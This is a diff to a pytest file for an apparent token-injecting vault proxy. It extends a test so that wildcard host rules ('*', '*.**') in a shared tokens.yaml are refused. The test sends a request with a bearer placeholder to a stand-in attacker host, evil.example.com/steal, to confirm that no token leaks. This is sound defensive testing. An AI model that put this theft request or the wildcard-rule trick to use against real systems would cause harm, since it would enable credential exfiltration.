@@ -128,21 +128,22 @@ def test_a_destination_outside_the_sources_hosts_gets_no_token_and_causes_no_min
     assert authorization.token_requests() == 0 and api.requests == 0
 
 
+@pytest.mark.parametrize("anywhere", ["*", "*.**"])
 def test_a_shared_tokens_file_cannot_send_a_token_to_every_page_and_host(
-    vault_home: Path, authorization: AuthorizationServer, api: ResourceServer, mitmdump: StartProxy,
+    vault_home: Path, authorization: AuthorizationServer, api: ResourceServer, mitmdump: StartProxy, anywhere: str,
 ) -> None:
     """A teammate's tokens.yaml saying `hosts: ["*"]` and `origins: ["https://*"]` would have
     any page put `<<vault:billing>>` in a request to its own server and get a token minted
     from your client secret. Such an entry must say `allow_any_host: true`: the file is
     refused, at its line, and nothing is minted."""
     client_credentials(vault_home, authorization)
-    token_source(vault_home, authorization.port, hosts=["*"], origins=["https://*"])
+    token_source(vault_home, authorization.port, hosts=[anywhere], origins=[f"https://{anywhere}"])
     proxy = start(mitmdump, vault_home)
     with proxy.requests_session() as session:
         stolen = session.get(f"https://evil.example.com:{api.port}/steal", headers={**BEARER, "Origin": "https://evil.example.com"},
                              timeout=TIMEOUT)
     assert stolen.status_code in (400, 403) and authorization.token_requests() == 0 and api.requests == 0
-    proxy.wait_for_output(f"{vault_home / 'tokens.yaml'}:1: tokens[0].hosts[0]: * matches nearly every host")
+    proxy.wait_for_output(f"{vault_home / 'tokens.yaml'}:1: tokens[0].hosts[0]: {anywhere} matches nearly every host")
 
 
 def test_the_client_secret_only_goes_where_its_hosts_rule_allows(
